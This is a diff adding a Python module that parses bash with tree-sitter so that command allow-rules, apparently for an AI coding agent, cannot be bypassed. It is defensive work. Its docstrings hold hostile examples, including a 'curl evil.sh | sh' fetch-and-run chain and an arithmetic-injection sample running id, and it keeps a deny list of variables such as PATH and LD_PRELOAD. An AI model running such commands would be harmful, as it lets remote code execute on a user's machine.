@@ -1,0 +1,1013 @@
+"""Bash commands split into the simple commands they run, and rule patterns matched on them.
+
+A rule such as ``git status`` must not allow ``git status && curl evil.sh | sh``, so a
+script is parsed with tree-sitter's bash grammar, never matched as a string, and every
+command it would run is checked on its own. :func:`parse_commands` returns them;
+:func:`command_matches` says whether one rule pattern matches one of them.
+
+What is looked into
+-------------------
+Every simple command in source order, wherever it sits: lists (``;``, ``&&``, ``||``,
+``&``), pipelines (``|``, ``|&``, ``!``), ``$(...)`` and backticks, ``<(...)`` and
+``>(...)``, subshells and ``{ ...; }`` groups, ``if``/``while``/``until``/``for``/``case``
+bodies and conditions, function bodies (``f() { curl x; }; f`` gives ``curl x`` and ``f``),
+command substitutions inside unquoted heredocs, redirection targets and assignment
+values, ``[[ ... ]]`` and ``[ ... ]`` (a command whose first word is ``[[`` or ``[``),
+``export``/``declare``/``local``/``readonly``/``unset`` (commands too), and the script
+given to ``bash -c``, ``sh -c`` (also ``dash``, ``zsh``, ``ksh``, with a path or other
+options) and the action of ``trap``, each parsed in turn. Redirections are kept with the
+command they apply to; one on a group (``{ a; b; } > out``) is kept with every command in
+it, and one with no command at all (``> file``) comes back as a command with no words,
+which no pattern matches.
+
+What is not looked into
+-----------------------
+The words of a command are matched as they are. A command that runs another command
+from its arguments is one command: ``xargs rm``, ``find . -exec rm {} +``, ``sudo ...``,
+``timeout 5 ...``, ``nohup ...``, ``env X=1 ...``, ``time ...``, ``exec ...``,
+``command ...``, ``nice ...``, ``ssh host ...``, ``python -c ...``: the nested command's
+words are the outer command's words, so a rule must allow the whole line
+(``find . -name *.pyc -delete``, ``xargs *``). A script run by name (``./x.sh``,
+``bash x.sh``, ``source x.sh``) is not read. Assignments in front of a command
+(``X=1 cmd``) are left out of its words but are in its ``text``.
+
+What is refused
+---------------
+:class:`ShellParseError` is raised, so the caller treats the script as unmatched, for a
+syntax error and for what cannot be known before the script runs:
+
+* a command name that is an expansion (``$CMD``, ``$(...)``, ``$'...'``) or a glob or
+  brace expansion (``/bin/c?rl``, ``{curl,x}``); ``eval``, ``let`` and ``coproc``;
+  ``bash -c`` or ``trap`` with a script that is not a constant;
+* arithmetic that reads a variable, since bash runs a ``$(...)`` hidden in the
+  variable's value there: ``$((x))``, ``((i++))``, ``for ((...))``,
+  ``[[ $x -eq 1 ]]``, ``[[ -v a[x] ]]``, ``${a[$i]}``, ``${s:$n}``, array elements
+  named to ``unset``, ``read`` or ``printf -v``; for the same reason indirect and
+  prompt expansions (``${!x}``, ``${x@P}``);
+* setting variables that change what any command runs (``PATH``, ``LD_PRELOAD``,
+  ``BASH_ENV``, ``IFS`` and the like), by assignment, ``export``, ``read``,
+  ``printf -v`` or ``mapfile``; ``hash -p``; namerefs and integer variables
+  (``declare -n``, ``declare -i``), whose later assignments are not what they seem;
+* what the grammar misreads: a ``$(...)`` or backtick read as plain text (in some
+  unquoted heredocs, in ``${x:-`cmd`}``, in the pattern of ``${x%%$(cmd)}``); a reserved
+  word read as a command name (``then``, ``}``); ``1=`` read as an assignment;
+  ``cu\\<newline>rl``, ``a 'b'\\n`` or ``a\\<tab>b`` read as two words where bash reads
+  one; ``echo \\ #$(x)`` read as a comment where bash reads a word;
+* text bash would not receive as written (NUL characters, lone surrogates); characters
+  above U+1FFFF, on some of which tree-sitter-bash crashes the process; and a script
+  nested so deeply that describing its commands would take too much memory.
+
+Builtins that change how later commands behave (``alias``, ``cd``, ``set``, ``shopt``,
+``enable``, ``ulimit``, ``source``, ``exec``...) are plain commands here: a rule that
+allows one allows its effect on the commands after it, in this call and, in a
+persistent bash session, in later ones. A shell reading its script from standard input
+(``curl x | sh``, ``bash <<EOF``) runs what it reads, so a rule allowing ``sh`` or
+``bash`` with no arguments allows anything.
+
+Words
+-----
+A word whose value is static has its quotes and backslashes removed (``'a b'`` and
+``a\\ b`` are ``a b``, ``"git"`` is ``git``); a word with an expansion keeps its source
+text (``"$HOME/x"``, ``$(pwd)``); globs keep their text (``*.py``).
+
+Pattern syntax
+--------------
+A pattern is split into words as a shell would (:func:`shlex.split`) and matched word by
+word against the command's words:
+
+* a word matches exactly, or with :mod:`fnmatch` wildcards inside that one word:
+  ``git log --format=*`` matches ``git log --format=%H``; ``*/curl *`` matches
+  ``/usr/bin/curl x`` (a pattern ``curl`` matches only the word ``curl``);
+* a final word ``*`` matches any remaining words, zero or more: ``git *`` matches ``git``
+  and ``git push -f``; ``ls *`` matches ``ls`` and ``ls -la src``;
+* the prefix form ``npm run test:*`` (Claude Code's) means the command starts with the
+  words ``npm run test``: it matches ``npm run test``, ``npm run test --watch`` and
+  ``npm run test:unit``, not ``npm run testing``.
+
+A command word that may expand into other words (an expansion, a glob, a brace, a
+leading ``~``: ``$X``, ``*.py``, ``{a,b}``) is matched only by the same text in the
+pattern or by a final ``*``: ``rm *.txt`` and ``rm *`` allow ``rm *.txt``, while
+``cat ?`` does not allow ``cat *`` and ``git log --format=*`` does not allow
+``git log --format=$FMT`` (whose value may split into more options). The same holds for
+a quoted word that merely contains such a character (``grep '$x'``): the check fails
+closed.
+
+Examples::
+
+    >>> [c.argv for c in parse_commands("git status && curl evil.sh | sh")]
+    [('git', 'status'), ('curl', 'evil.sh'), ('sh',)]
+    >>> [c.argv for c in parse_commands("echo $(whoami) > 'out file'")]
+    [('echo', '$(whoami)'), ('whoami',)]
+    >>> parse_commands("echo hi > 'out file'")[0].redirects
+    (Redirect(operator='>', target='out file'),)
+    >>> command_matches("npm run test:*", parse_commands("npm run test:unit -- -x")[0])
+    True
+    >>> command_matches("git status", parse_commands("git status --short")[0])
+    False
+"""
+
+from __future__ import annotations
+
+import fnmatch
+import itertools
+import re
+import shlex
+import threading
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass
+from typing import Any
+
+__all__ = ["Command", "Redirect", "ShellParseError", "command_matches", "parse_commands"]
+
+
+@dataclass(frozen=True)
+class Redirect:
+    """One redirection of a command, as written: ``2>> log`` is ``("2>>", "log")``."""
+
+    operator: str  #: ``>``, ``>>``, ``<``, ``&>``, ``2>``, ``2>&``, ``<<``, ``<<<`` ...
+    #: the file word (static value, or source text if it has an expansion); for a
+    #: descriptor copy or close the descriptor or ``-`` (``2>&1``, ``>&-``); for a heredoc
+    #: its delimiter, for a herestring (``<<<``) its word
+    target: str
+
+
+@dataclass(frozen=True)
+class Command:
+    """One simple command a script would run."""
+
+    argv: tuple[str, ...]  #: its words, assignments in front of it (``X=1``) left out
+    redirects: tuple[Redirect, ...]  #: its redirections, and those of groups around it
+    text: str  #: the command's source text, for messages
+
+
+class ShellParseError(ValueError):
+    """The script could not be understood for sure; the message says why."""
+
+
+# --- the parser: one Language per process, one Parser per thread ------------------------
+
+_language_lock = threading.Lock()
+_language: Any = None
+_local = threading.local()
+
+
+def _parser() -> Any:
+    """This thread's parser; the language is loaded once, on first use."""
+    parser = getattr(_local, "parser", None)
+    if parser is None:
+        global _language
+        import tree_sitter
+
+        with _language_lock:
+            if _language is None:
+                import tree_sitter_bash
+
+                _language = tree_sitter.Language(tree_sitter_bash.language())
+        parser = tree_sitter.Parser(_language)
+        _local.parser = parser
+    return parser
+
+
+_TOO_HIGH = re.compile("[\U00020000-\U0010ffff]")
+# A backslash (an odd run of them) before a space or tab, and the nodes such text is
+# part of when the grammar reads it right.
+_ESCAPED_BLANK = re.compile(rb"(?<!\\)(?:\\\\)*\\[ \t]")
+_OWNS_ESCAPES = frozenset(
+    {
+        *("word", "string", "string_content", "raw_string", "ansi_c_string", "comment"),
+        *("heredoc_body", "heredoc_content", "regex", "extglob_pattern", "concatenation"),
+    }
+)
+# A backslash-newline (an odd run of backslashes before the newline) followed by a
+# character that is not blank: bash removes it and joins what is around it.
+_CONTINUATION = re.compile(r"(?<!\\)((?:\\\\)*)\\\n(?=\S)")
+
+
+def _parse_tree(script: str) -> tuple[Any, bytes]:
+    """Parse ``script``; its root node and the bytes the nodes point into."""
+    if "\x00" in script:
+        raise ShellParseError("the command contains a NUL character, which bash cannot run")
+    high = _TOO_HIGH.search(script)
+    if high:
+        # tree-sitter-bash 0.25 crashes the process (SIGSEGV) on some of these, e.g.
+        # '{' followed by U+2C6CB; refusing them is safer than a crashed host.
+        raise ShellParseError(
+            f"the command contains U+{ord(high.group()):04X}; characters above U+1FFFF "
+            "are not parsed (the bash grammar can crash on them)"
+        )
+    for glued in _CONTINUATION.finditer(script):
+        start = glued.start()
+        # bash joins 'cu\<newline>rl' into 'curl'; the grammar reads two words
+        if glued.group(1) or (start > 0 and not script[start - 1].isspace()):
+            near = script[max(start - 10, 0) : glued.end() + 10]
+            raise ShellParseError(
+                f"a line continuation inside a word ({near!r}) cannot be read for sure; "
+                "put a space before the backslash"
+            )
+    try:
+        # The bash tool sends commands to bash this way too.
+        src = script.encode("utf-8", errors="surrogateescape")
+    except UnicodeEncodeError as exc:
+        raise ShellParseError(f"the command is not valid text: {exc.reason}") from None
+    root = _parser().parse(src).root_node
+    if root.has_error:
+        raise ShellParseError(_syntax_error(root, src))
+    for blank in _ESCAPED_BLANK.finditer(src):
+        # An escaped blank belongs to a word; the grammar sometimes leaves it between
+        # words ('a \\ #$(x)' is a word to bash, a comment to the grammar).
+        owner = root.descendant_for_byte_range(blank.end() - 2, blank.end())
+        if owner is None or owner.type not in _OWNS_ESCAPES:
+            near = _text(owner or root, src)[:60]
+            raise ShellParseError(f"cannot read the escaped blank in {near!r}; quote the word")
+    return root, src
+
+
+def _syntax_error(root: Any, src: bytes) -> str:
+    """A message naming the first ERROR or MISSING node's place."""
+    stack = [root]
+    while stack:
+        node = stack.pop()
+        if node.is_missing:
+            line, column = node.start_point
+            place = f"line {line + 1}, column {column + 1}"
+            return f"bash syntax error at {place}: missing {node.type!r}"
+        if node.is_error:
+            # The ERROR node spans what the grammar skipped; its last child is where
+            # the grammar gave up, the closest to the mistake.
+            last = node.children[-1] if node.children else node
+            line, column = last.start_point
+            near = _text(last, src).splitlines()[0][:40] if _text(last, src).strip() else ""
+            where = f" near {near!r}" if near else ""
+            return f"bash syntax error at line {line + 1}, column {column + 1}{where}"
+        if node.has_error:
+            stack.extend(reversed(node.children))
+    return "bash syntax error"  # pragma: no cover - has_error implies such a node
+
+
+def _text(node: Any, src: bytes) -> str:
+    return src[node.start_byte : node.end_byte].decode("utf-8", errors="surrogateescape")
+
+
+# --- words ----------------------------------------------------------------------------
+
+# What a backslash escapes inside double quotes (a backslash-newline is removed).
+_DQ_ESCAPES = frozenset('$`"\\\n')
+
+
+def _unescape_word(text: str) -> str:
+    """Remove backslashes from an unquoted word as bash does (``a\\ b`` -> ``a b``)."""
+    out: list[str] = []
+    i = 0
+    while i < len(text):
+        ch = text[i]
+        if ch == "\\" and i + 1 < len(text):
+            if text[i + 1] != "\n":  # a backslash-newline is a line continuation
+                out.append(text[i + 1])
+            i += 2
+            continue
+        out.append(ch)
+        i += 1
+    return "".join(out)
+
+
+def _unescape_double(text: str) -> str:
+    """Remove the backslashes that matter inside double quotes."""
+    out: list[str] = []
+    i = 0
+    while i < len(text):
+        ch = text[i]
+        if ch == "\\" and i + 1 < len(text) and text[i + 1] in _DQ_ESCAPES:
+            if text[i + 1] != "\n":
+                out.append(text[i + 1])
+            i += 2
+            continue
+        out.append(ch)
+        i += 1
+    return "".join(out)
+
+
+def _word(node: Any, src: bytes) -> tuple[str, bool]:
+    """A word's value with quotes removed and whether it is static; else its source text."""
+    parts: list[str] = []
+    stack = [node]
+    while stack:
+        part = stack.pop()
+        kind = part.type
+        if kind in ("word", "command_name"):
+            if kind == "command_name":
+                stack.extend(reversed(part.named_children))
+                continue
+            parts.append(_unescape_word(_text(part, src)))
+        elif kind in ("number", "extglob_pattern", "regex", "test_operator", "file_descriptor"):
+            parts.append(_text(part, src))
+        elif kind == "raw_string":
+            parts.append(_text(part, src)[1:-1])
+        elif kind == "string":
+            for child in part.named_children:
+                if child.type != "string_content":
+                    return _text(node, src), False
+            inner = _text(part, src)[1:-1]
+            parts.append(_unescape_double(inner))
+        elif kind == "concatenation":
+            stack.extend(reversed(part.named_children))
+        else:  # an expansion, or a node this module does not know: keep it as written
+            return _text(node, src), False
+    return "".join(parts), True
+
+
+def _unquoted_leaves(node: Any, src: bytes) -> Iterator[str]:
+    """The text of a word's unquoted literal parts (where globs and braces act)."""
+    stack = [node]
+    while stack:
+        part = stack.pop()
+        if part.type == "word":
+            yield _text(part, src)
+        elif part.type in ("concatenation", "command_name"):
+            stack.extend(reversed(part.named_children))
+
+
+# --- rules about what cannot be known -------------------------------------------------
+
+_SHELLS = frozenset({"bash", "sh", "dash", "zsh", "ksh", "mksh", "ash", "rbash"})
+_REFUSED_NAMES = {
+    "eval": "eval runs a string built at run time",
+    "let": "let evaluates arithmetic, which can run commands hidden in a variable",
+    "coproc": "coproc is not supported",
+}
+# Bash reserved words never name a command; seeing one as a name means a misparse.
+_RESERVED = frozenset(
+    {
+        *("{", "}", "then", "else", "elif", "fi", "do", "done", "esac", "in", "!", "[[", "]]"),
+        *("if", "while", "until", "for", "case", "select", "function"),
+    }
+)
+# Variables that change which program a name runs or inject code into every program.
+_SENSITIVE_VARS = frozenset(
+    {
+        "PATH",
+        "BASH_ENV",
+        "ENV",
+        "IFS",
+        "SHELLOPTS",
+        "BASHOPTS",
+        "PS4",
+        "PROMPT_COMMAND",
+        "GLOBIGNORE",
+        "BASH_LOADABLES_PATH",
+        "EXECIGNORE",
+    }
+)
+_SENSITIVE_PREFIXES = ("LD_", "BASH_FUNC_", "DYLD_")
+_ARITH_TEST_OPS = frozenset({"-eq", "-ne", "-lt", "-le", "-gt", "-ge"})
+_VARIABLE_NODES = frozenset(
+    {"variable_name", "word", "simple_expansion", "expansion", "subscript", "string"}
+)
+_PRODUCERS = frozenset({"command", "declaration_command", "unset_command", "test_command"})
+_SUBSTITUTIONS = frozenset({"command_substitution", "process_substitution"})
+
+
+def _refuse_arithmetic(node: Any, src: bytes) -> None:
+    """Refuse arithmetic that reads a variable: ``x='a[$(id)]'; echo $((x))`` runs id."""
+    stack = [
+        child
+        for i, child in enumerate(node.children)
+        if child.is_named and node.field_name_for_child(i) != "body"  # a for loop's body
+    ]
+    while stack:
+        part = stack.pop()
+        if part.type in _SUBSTITUTIONS:
+            continue  # walked as commands of their own
+        if part.type in _VARIABLE_NODES:
+            raise ShellParseError(
+                f"arithmetic on {_text(part, src)!r} in {_text(node, src)[:60]!r} reads a "
+                "variable, and bash runs commands hidden in its value; cannot check it"
+            )
+        stack.extend(part.named_children)
+
+
+def _check_assignment(node: Any, src: bytes) -> None:
+    name = node.child_by_field_name("name")
+    if name is None or name.type != "variable_name":
+        return  # a subscript, checked on its own
+    var = _text(name, src)
+    if not re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", var):
+        # the grammar reads '1=' as an assignment; bash runs it as a command
+        raise ShellParseError(f"cannot read {_text(node, src)[:60]!r}: not a variable name")
+    if var in _SENSITIVE_VARS or var.startswith(_SENSITIVE_PREFIXES):
+        raise ShellParseError(
+            f"setting {var} changes what commands run; cannot check {_text(node, src)[:60]!r}"
+        )
+
+
+# Builtins that set variables named in their arguments (read PATH, printf -v PATH ...);
+# 'unset' is checked with them for the array indexes it evaluates.
+_SETTERS = frozenset(
+    {"read", "printf", "mapfile", "readarray", "declare", "typeset", "local", "export", "readonly"}
+)
+
+
+def _check_setter(argv: Sequence[str], text: str) -> None:
+    """Refuse a builtin that sets a sensitive variable, a nameref or an integer variable."""
+    program = argv[0]
+    if program == "hash" and any(w.startswith("-") and "p" in w for w in argv[1:]):
+        raise ShellParseError(f"hash -p changes what a command name runs; cannot check {text!r}")
+    if program not in _SETTERS and program != "unset":
+        return
+    words = argv[1:]
+    if program == "printf":  # only 'printf -v NAME' sets a variable
+        words = [w for prev, w in itertools.pairwise(argv) if prev == "-v"]
+    for word in words:
+        element = re.match(r"[A-Za-z_][A-Za-z0-9_]*\[(.*?)\]", word)
+        if element and not re.fullmatch(r"-?[0-9]+|[@*]", element.group(1)):
+            raise ShellParseError(
+                f"{program} {word}: the index is evaluated as arithmetic, which can run "
+                f"commands hidden in a variable; cannot check {text!r}"
+            )
+        if program in ("declare", "typeset", "local") and re.fullmatch(
+            r"-[a-zA-Z]*[ni][a-zA-Z]*", word
+        ):
+            raise ShellParseError(
+                f"{program} {word} makes later assignments references or arithmetic; "
+                f"cannot check {text!r}"
+            )
+        for part in word.split("="):
+            if part in _SENSITIVE_VARS or part.startswith(_SENSITIVE_PREFIXES):
+                raise ShellParseError(
+                    f"setting {part} changes what commands run; cannot check {text!r}"
+                )
+
+
+def _check_test_words(argv: Sequence[str], text: str) -> None:
+    """Refuse ``-v a[x]`` in a test: the index is arithmetic on a variable."""
+    for flag, word in itertools.pairwise(argv):
+        if flag == "-v" and "[" in word and not re.search(r"\[(-?[0-9]+|[@*])\]$", word):
+            raise ShellParseError(
+                f"-v {word} evaluates its index as arithmetic, which can run commands "
+                f"hidden in a variable; cannot check {text!r}"
+            )
+
+
+def _check_subscript(node: Any, src: bytes) -> None:
+    index = node.child_by_field_name("index")
+    if index is None:
+        return
+    value = _text(index, src)
+    if value in ("@", "*") or re.fullmatch(r"-?[0-9]+", value):
+        return
+    raise ShellParseError(
+        f"array index {value!r} in {_text(node, src)[:60]!r} is evaluated as arithmetic, "
+        "which can run commands hidden in a variable; cannot check it"
+    )
+
+
+def _check_expansion(node: Any, src: bytes) -> None:
+    """Refuse ``${!x}``, ``${x@P}`` and ``${x:$n}``: they evaluate a variable's value."""
+    children = node.children
+    text = _text(node, src)
+    for i, child in enumerate(children):
+        kind = child.type
+        if kind == "!" and i == 1 and not re.search(r"(\*|@|\[[@*]\])\}$", text):
+            raise ShellParseError(f"indirect expansion {text!r} cannot be checked")
+        if kind == "@" and i + 1 < len(children) and children[i + 1].type == "P":
+            raise ShellParseError(f"prompt expansion {text!r} can run commands; cannot check it")
+        if kind == ":":
+            for later in children[i + 1 :]:
+                if later.is_named and later.type != "number":
+                    raise ShellParseError(
+                        f"substring offset in {text!r} is arithmetic on a variable, which can "
+                        "run commands hidden in its value; cannot check it"
+                    )
+
+
+# Nodes whose text may hold a substitution the grammar took for plain text: in
+# '${x%%$(curl x)}' the '$(curl x)' is a 'regex', in '${x:-`curl x`}' a 'word'.
+_TEXT_NODES = frozenset({"expansion", "word", "regex", "extglob_pattern", "string"})
+_RUNS = frozenset({"command_substitution", "process_substitution", "arithmetic_expansion"})
+
+
+def _check_unparsed(node: Any, src: bytes) -> None:
+    """Refuse ``$(`` or a backtick in ``node`` that the grammar did not parse as one."""
+    start, end = node.start_byte, node.end_byte
+    if b"`" not in src[start:end] and b"$(" not in src[start:end]:
+        return
+    parsed: dict[int, int] = {}  # where a parsed substitution starts -> where it ends
+    stack = list(node.named_children)
+    while stack:
+        part = stack.pop()
+        if part.type in _RUNS:
+            parsed[part.start_byte] = part.end_byte  # its inside is checked when walked
+        else:
+            stack.extend(part.named_children)
+    i = start
+    while i < end:
+        if i in parsed:
+            i = parsed[i]
+            continue
+        byte = src[i]
+        if byte == 0x5C:  # a backslash: the next character is literal
+            i += 2
+            continue
+        if byte == 0x60 or (byte == 0x24 and src[i + 1 : i + 2] == b"("):
+            raise ShellParseError(
+                f"cannot read the command substitution in {_text(node, src)[:60]!r}; "
+                "what it runs is not known"
+            )
+        i += 1
+
+
+def _check_gaps(node: Any, src: bytes) -> None:
+    """Refuse what the grammar split where bash does not: an escaped blank between a
+    command's words (``a\\ b``; a backslash-newline is fine), or two words touching."""
+    children = node.children
+    for left, right in itertools.pairwise(children):
+        gap = src[left.end_byte : right.start_byte]
+        if b"\\" in gap.replace(b"\\\n", b""):
+            raise ShellParseError(
+                f"cannot read the escaped blank in {_text(node, src)[:60]!r}; quote the word"
+            )
+        if not gap and _is_word(node, left) and _is_word(node, right):
+            # two words with nothing between are one word to bash ('a'\n is a\n)
+            raise ShellParseError(f"cannot read where a word ends in {_text(node, src)[:60]!r}")
+
+
+def _is_word(parent: Any, node: Any) -> bool:
+    """Whether ``node`` is a word of ``parent``: in a command, any part but a redirection
+    (the grammar makes '==' in 'a ==""' an unnamed argument); elsewhere a named part."""
+    if str(node.type).endswith("redirect"):
+        return False
+    return parent.type == "command" or bool(node.is_named)
+
+
+def _check_comment(node: Any, src: bytes) -> None:
+    """Refuse a comment the grammar saw where bash sees a word (``a \\ #$(x)``)."""
+    start = node.start_byte
+    if start == 0:
+        return
+    before = src[:start]
+    if before[-1:] not in (b" ", b"\t", b"\n", b";", b"&", b"|", b"(", b")"):
+        raise ShellParseError(f"cannot read {_text(node, src)[:40]!r} as a comment")
+    escapes = len(before[:-1]) - len(before[:-1].rstrip(b"\\"))
+    if escapes % 2:
+        raise ShellParseError(
+            f"{_text(node, src)[:40]!r} follows an escaped blank, so bash reads it as a word; "
+            "cannot check it"
+        )
+
+
+def _check_part(node: Any, src: bytes) -> None:
+    """The checks of one node that is not a command (see "What is refused")."""
+    kind = node.type
+    if kind in _TEXT_NODES:
+        _check_unparsed(node, src)
+    if kind == "variable_assignment":
+        _check_assignment(node, src)
+    elif kind == "subscript":
+        _check_subscript(node, src)
+    elif kind == "expansion":
+        _check_expansion(node, src)
+    elif _is_arithmetic(node):
+        _refuse_arithmetic(node, src)
+
+
+def _is_arithmetic(node: Any) -> bool:
+    """``$((...))``, ``for ((...))``, or ``((...))``, which the grammar files as a group."""
+    if node.type in ("arithmetic_expansion", "c_style_for_statement"):
+        return True
+    return node.type == "compound_statement" and _first_type(node) == "(("
+
+
+def _is_arithmetic_command(node: Any, src: bytes) -> bool:
+    return (
+        node.type == "arithmetic_expansion" and src[node.start_byte : node.start_byte + 2] == b"(("
+    )
+
+
+def _first_type(node: Any) -> str | None:
+    return str(node.children[0].type) if node.child_count else None
+
+
+# --- the walk -------------------------------------------------------------------------
+
+
+class _Walker:
+    """Iterative walk of one or more trees (nested ``bash -c`` scripts join the stack)."""
+
+    def __init__(self, size: int) -> None:
+        self.commands: list[Command] = []
+        # Each nested command repeats its outer command's text: cap the total, so a
+        # small script nested thousands deep cannot take gigabytes to describe.
+        self.budget = 10 * size + 64_000_000
+        # Redirections the grammar put on a list or pipeline, by the node they belong to.
+        self.tails: dict[tuple[int, int, int, str], tuple[Redirect, ...]] = {}
+        # (node, source bytes, redirections inherited from enclosing groups)
+        self.stack: list[tuple[Any, bytes, tuple[Redirect, ...]]] = []
+
+    def push_children(self, node: Any, src: bytes, inherited: tuple[Redirect, ...]) -> None:
+        for child in reversed(node.named_children):
+            self.stack.append((child, src, inherited))
+
+    def run(self, root: Any, src: bytes) -> list[Command]:
+        self.stack.append((root, src, ()))
+        while self.stack:
+            node, src, inherited = self.stack.pop()
+            self.visit(node, src, inherited)
+        return self.commands
+
+    def add(self, command: Command) -> None:
+        self.budget -= len(command.text) + sum(len(word) for word in command.argv)
+        if self.budget < 0:
+            raise ShellParseError("the command is nested too deeply to check")
+        self.commands.append(command)
+
+    def visit(self, node: Any, src: bytes, inherited: tuple[Redirect, ...]) -> None:
+        kind = node.type
+        if self.tails:
+            inherited = (*self.tails.pop(_key(node, src), ()), *inherited)
+        if kind == "comment":
+            _check_comment(node, src)
+            return
+        if kind == "command":
+            self.simple_command(node, src, inherited, (), ())
+        elif kind == "redirected_statement":
+            self.redirected(node, src, inherited)
+        elif kind == "declaration_command" or kind == "unset_command":
+            self.builtin(node, src, inherited)
+        elif kind == "test_command":
+            self.test(node, src, inherited)
+        elif kind in _SUBSTITUTIONS:
+            self.push_children(node, src, ())  # their output is not the outer redirect's
+        elif kind == "heredoc_body":
+            self.heredoc_body(node, src)
+        else:
+            _check_part(node, src)
+            self.push_children(node, src, inherited)
+
+    # -- commands
+
+    def simple_command(
+        self,
+        node: Any,
+        src: bytes,
+        inherited: tuple[Redirect, ...],
+        outer: tuple[Redirect, ...],
+        extra: Sequence[Any],
+    ) -> None:
+        """One ``command`` node (``extra``: words the grammar put after a redirection)."""
+        _check_gaps(node, src)
+        name = node.child_by_field_name("name")
+        redirects: list[Redirect] = []
+        args: list[Any] = []
+        for i, child in enumerate(node.children):
+            field = node.field_name_for_child(i)
+            if field == "argument":
+                args.append(child)
+            elif field == "redirect":
+                more, words = self.redirect(child, src)
+                redirects.extend(more)
+                args.extend(words)
+        self.emit(name, [*args, *extra], node, src, (*redirects, *outer, *inherited))
+        self.push_children(node, src, ())
+
+    def emit(
+        self,
+        name: Any,
+        args: Sequence[Any],
+        node: Any,
+        src: bytes,
+        redirects: tuple[Redirect, ...],
+    ) -> None:
+        if name is None:
+            self.add(Command((), redirects, _text(node, src)))
+            return
+        arithmetic = name.named_children[0] if name.named_child_count == 1 else None
+        if arithmetic is not None and _is_arithmetic_command(arithmetic, src):
+            # tree-sitter-bash 0.23 reads '(( x ))' as a command named '$(( x ))'
+            _refuse_arithmetic(arithmetic, src)
+            return
+        program, static = _word(name, src)
+        if not static:
+            raise ShellParseError(
+                f"the command name {_text(name, src)!r} is an expansion; what runs is not known"
+            )
+        for leaf in _unquoted_leaves(name, src):
+            if re.search(r"[*?\[{]", leaf):
+                raise ShellParseError(
+                    f"the command name {_text(name, src)!r} is a glob or brace expansion; "
+                    "what runs is not known"
+                )
+        if program in _RESERVED:
+            raise ShellParseError(f"cannot read {_text(node, src)[:60]!r} as a command")
+        base = program.rsplit("/", 1)[-1]
+        if base in _REFUSED_NAMES:
+            raise ShellParseError(f"{_REFUSED_NAMES[base]}; cannot check {_text(node, src)[:60]!r}")
+        argv = [program]
+        for arg in args:
+            if arg.type == "$":  # $"..." comes out as a lone '$' then a string
+                raise ShellParseError(f'cannot read {_text(node, src)[:60]!r}: $"..." strings')
+            argv.append(_word(arg, src)[0])
+        _check_setter((base, *argv[1:]), _text(node, src)[:60])
+        if base in ("test", "["):
+            _check_test_words(argv, _text(node, src)[:60])
+        self.add(Command(tuple(argv), redirects, _text(node, src)))
+        script = self.nested_script(base, args, src)
+        if script is not None:
+            root, nested_src = _parse_tree(script)
+            self.stack.append((root, nested_src, ()))
+
+    def nested_script(self, base: str, args: Sequence[Any], src: bytes) -> str | None:
+        """The script ``bash -c`` or ``trap`` would run, or None if there is none."""
+        if base not in _SHELLS and base != "trap":
+            return None
+        words: list[str | None] = []  # None for a word only known at run time
+        for arg in args:
+            value, static = _word(arg, src)
+            words.append(value if static else None)
+        index = _trap_action_index(words) if base == "trap" else _shell_script_index(words)
+        if index is None:
+            return None
+        value, static = _word(args[index], src)
+        if not static:
+            raise ShellParseError(
+                f"the script {_text(args[index], src)!r} given to {base} is not a constant"
+            )
+        return value
+
+    def builtin(self, node: Any, src: bytes, inherited: tuple[Redirect, ...]) -> None:
+        """``export``/``declare``/``local``/``readonly``/``typeset``/``unset``."""
+        _check_gaps(node, src)
+        argv = [node.children[0].type]
+        for child in node.named_children:
+            if child.type == "variable_assignment":
+                _check_assignment(child, src)
+                name = child.child_by_field_name("name")
+                value = child.child_by_field_name("value")
+                text = _text(name, src) + "="
+                if value is not None:
+                    word, static = _word(value, src)
+                    text = text + word if static else _text(child, src)
+                argv.append(text)
+            else:
+                argv.append(_word(child, src)[0])
+        _check_setter(argv, _text(node, src)[:60])
+        self.add(Command(tuple(argv), inherited, _text(node, src)))
+        self.push_children(node, src, ())
+
+    def test(self, node: Any, src: bytes, inherited: tuple[Redirect, ...]) -> None:
+        """``[[ ... ]]`` or ``[ ... ]`` as a command of its own words."""
+        _check_gaps(node, src)
+        if _first_type(node) == "((":  # tree-sitter-bash 0.23 files '((i++))' here
+            _refuse_arithmetic(node, src)
+            self.push_children(node, src, ())
+            return
+        argv: list[str] = []
+        stack = list(reversed(node.children))
+        while stack:
+            part = stack.pop()
+            if part.type in ("binary_expression", "unary_expression", "parenthesized_expression"):
+                if part.type == "binary_expression" and node.children[0].type == "[[":
+                    op = part.child_by_field_name("operator")
+                    if op is not None and _text(op, src) in _ARITH_TEST_OPS:
+                        _refuse_arithmetic_operands(part, src)
+                stack.extend(reversed(part.children))
+            elif part.is_named:
+                argv.append(_word(part, src)[0])
+            else:
+                argv.append(_text(part, src))
+        _check_test_words(argv, _text(node, src)[:60])
+        self.add(Command(tuple(argv), inherited, _text(node, src)))
+        self.push_children(node, src, ())
+
+    # -- redirections
+
+    def redirected(self, node: Any, src: bytes, inherited: tuple[Redirect, ...]) -> None:
+        _check_gaps(node, src)
+        body = node.child_by_field_name("body")
+        own: list[Redirect] = []
+        extra: list[Any] = []
+        for i, child in enumerate(node.children):
+            if node.field_name_for_child(i) == "redirect":
+                redirects, words = self.redirect(child, src)
+                own.extend(redirects)
+                extra.extend(words)
+                self.stack.append((child, src, ()))  # targets may hold $(...), heredocs
+        mine = (*own, *inherited)
+        if body is None:
+            # '> out curl x' runs curl: the grammar reads its words as more targets.
+            if extra:
+                self.emit(extra[0], extra[1:], node, src, mine)
+            else:
+                self.add(Command((), mine, _text(node, src)))
+            return
+        if body.type == "command":
+            self.simple_command(body, src, inherited, tuple(own), extra)
+            return
+        if extra:
+            raise ShellParseError(
+                f"cannot read {_text(node, src)[:60]!r}: words after a redirection"
+            )
+        if not _has_commands(body):
+            self.add(Command((), mine, _text(node, src)))
+        if body.type in ("pipeline", "list"):
+            # The grammar hangs 'a && b > y' on the list; bash gives '> y' to b alone.
+            tail = body
+            while tail.type in ("pipeline", "list"):
+                tail = [c for c in tail.named_children if c.type != "comment"][-1]
+            self.tails[_key(tail, src)] = tuple(own)
+            self.stack.append((body, src, inherited))
+        else:
+            self.stack.append((body, src, mine))
+
+    def redirect(self, node: Any, src: bytes) -> tuple[list[Redirect], list[Any]]:
+        """A redirection node's redirections and the extra words the grammar gave it."""
+        kind = node.type
+        redirects: list[Redirect] = []
+        words: list[Any] = []
+        if kind == "file_redirect":
+            _check_gaps(node, src)
+            op = "".join(
